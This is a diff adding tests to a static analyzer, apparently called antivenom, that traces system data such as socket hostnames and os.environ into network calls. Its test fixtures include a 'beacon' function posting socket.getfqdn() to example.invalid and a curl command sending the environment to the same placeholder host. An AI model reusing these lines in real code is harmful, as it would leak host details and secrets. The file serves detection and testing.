@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import textwrap
 
+import pytest
 from antivenom import flows
 
 
@@ -65,3 +66,39 @@ def test_environment_handed_to_a_child_process_is_configuration_not_a_flow():
             subprocess.run(["curl", "-d", str(child_env()), "https://example.invalid/"])
         """
     assert lines_of(source) == [9]
+
+
+SPELLINGS_OF_A_SOURCE = [
+    "socket.{name}()", "socket.{name} ()", "(socket.{name})()", "socket.{name} \\\n ()",
+    "x = (socket.{name}  # why\n)()", "from socket import {name}\n{name}()",
+]
+
+
+@pytest.mark.parametrize("name", sorted(flows._SOURCES))
+@pytest.mark.parametrize("spelling", SPELLINGS_OF_A_SOURCE)
+def test_text_gate_passes_every_spelling_of_a_source_call(name, spelling):
+    """The gate in front of the parse must be a necessary condition: every way CPython lets a
+    source call be written passes it, or a real flow would go unseen."""
+    assert flows.may_have_sources(spelling.format(name=name).encode())
+
+
+@pytest.mark.parametrize("text", ["x = os.environ", "x = os . environ", "x = (os).environ", "x = (os.\n environ)"])
+def test_text_gate_passes_every_spelling_of_os_environ(text):
+    assert flows.may_have_sources(text.encode())
+
+
+@pytest.mark.parametrize("text", ["nodes = []", "env = environ.get('HOME')", "def uname_of(x): pass",
+                                  "# gethostname is a function"])
+def test_text_gate_keeps_files_without_a_source_call_from_the_parse(text):
+    assert not flows.may_have_sources(text.encode())
+
+
+def test_a_flow_from_a_spaced_getfqdn_call_is_found():
+    source = """\
+        import socket, requests
+        def fqdn():
+            return socket.getfqdn ()
+        def beacon():
+            requests.post("https://example.invalid/b", data=fqdn())
+        """
+    assert lines_of(source) == [5]
